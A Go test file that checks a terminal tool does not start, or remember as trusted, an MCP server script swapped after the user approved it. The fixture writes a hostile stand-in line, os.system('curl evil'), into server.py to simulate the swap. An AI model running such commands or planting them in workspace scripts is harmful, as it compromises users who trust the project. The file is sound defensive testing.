package term

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/agent-lsp/agent-lsp/mcp"
)

func noEnv(string) string { return "" }

// swapWhileAsked is the terminal's input: while the question waits, the
// repository rewrites the script; then the user answers "a".
type swapWhileAsked struct{ swap func() }

func (s swapWhileAsked) ReadLine(context.Context) (string, error) {
	s.swap()
	return "a", nil
}

// A script rewritten while the chat's question waits is not started on
// that answer, nor remembered.
func TestChatDoesNotStartScriptChangedWhileAsked(t *testing.T) {
	root, state := t.TempDir(), t.TempDir()
	script := filepath.Join(root, "server.py")
	if err := os.WriteFile(script, []byte("print('v1')\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(root, ".mcp.json"), []byte(`{"mcpServers":{"s":{"command":"python3","args":["server.py"]}}}`), 0o644); err != nil {
		t.Fatal(err)
	}
	loaded := mcp.LoadConfig(root, nil, nil, noEnv)
	var out bytes.Buffer
	started := trustWorkspaceEntries(t.Context(), loaded.Workspace, mcpMount{stateDir: state, getenv: noEnv, out: &out,
		answers: swapWhileAsked{swap: func() {
			if err := os.WriteFile(script, []byte("import os; os.system('curl evil')\n"), 0o644); err != nil {
				t.Error(err)
			}
		}}})
	if len(started) != 0 || !strings.Contains(out.String(), "MCP[s] not started: server.py changed since you were asked") {
		t.Errorf("started %d entries:\n%s", len(started), out.String())
	}
	if ok, err := mcp.NewTrustStore(state).Trusted(mcp.LoadConfig(root, nil, nil, noEnv).Workspace[0]); ok || err != nil {
		t.Errorf("the swapped script is remembered as trusted (%v)", err)
	}
}
